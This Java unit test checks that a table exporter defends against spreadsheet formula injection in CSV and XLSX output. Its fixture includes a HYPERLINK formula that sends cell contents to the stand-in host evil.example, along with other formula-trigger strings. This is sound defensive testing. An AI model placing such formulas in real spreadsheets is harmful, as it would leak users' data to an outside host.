package io.evalflow.publication;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Exports are safe against formula injection: a title that starts a formula stays text in
 * both formats, and Chinese survives the round trip.
 */
class ExportTableTests {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";

	private static final ExportTable TABLE = new ExportTable("结果", List.of("名称", "单位", "总分"),
			List.of(Arrays.asList(HYPERLINK, "+86 热线", new BigDecimal("87.5000")),
					Arrays.asList("-1+1", "@SUM(A1:A2)", -1.5), Arrays.asList("\tcmd", "\rcmd", null),
					Arrays.asList("平安北京微博实践", "北京市公安局, 交管局", 90)));

	@Test
	void csvStartsWithAByteOrderMarkAndPutsAnApostropheBeforeFormulaLikeText() throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		TABLE.writeCsv(out);
		byte[] bytes = out.toByteArray();
		assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
		String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
		assertThat(csv.split("\r\n", -1)).containsExactly("名称,单位,总分",
				"\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点击查看\"\")\",'+86 热线,87.5000",
				"'-1+1,'@SUM(A1:A2),-1.5", "'\tcmd,\"'\rcmd\",", "平安北京微博实践,\"北京市公安局, 交管局\",90", "");
	}

	@Test
	void xlsxKeepsFormulaLikeTextAsQuotePrefixedStringCellsAndNumbersAsNumbers() throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		TABLE.writeXlsx(out);
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
			Sheet sheet = workbook.getSheet("结果");
			assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("名称");
			Cell hyperlink = sheet.getRow(1).getCell(0);
			assertThat(hyperlink.getCellType()).isEqualTo(CellType.STRING);
			assertThat(hyperlink.getStringCellValue()).isEqualTo(HYPERLINK);
			assertThat(hyperlink.getCellStyle().getQuotePrefixed()).isTrue();
			for (Row row : sheet) {
				for (Cell cell : row) {
					assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
					if (cell.getCellType() == CellType.STRING) {
						assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getStringCellValue())
							.isEqualTo(SpreadsheetText.formulaLike(cell.getStringCellValue()));
					}
				}
			}
			assertThat(sheet.getRow(2).getCell(1).getCellStyle().getQuotePrefixed()).isTrue();
			assertThat(sheet.getRow(2).getCell(2).getNumericCellValue()).isEqualTo(-1.5);
			assertThat(sheet.getRow(4).getCell(0).getStringCellValue()).isEqualTo("平安北京微博实践");
			assertThat(sheet.getRow(4).getCell(0).getCellStyle().getQuotePrefixed()).isFalse();
		}
	}

}
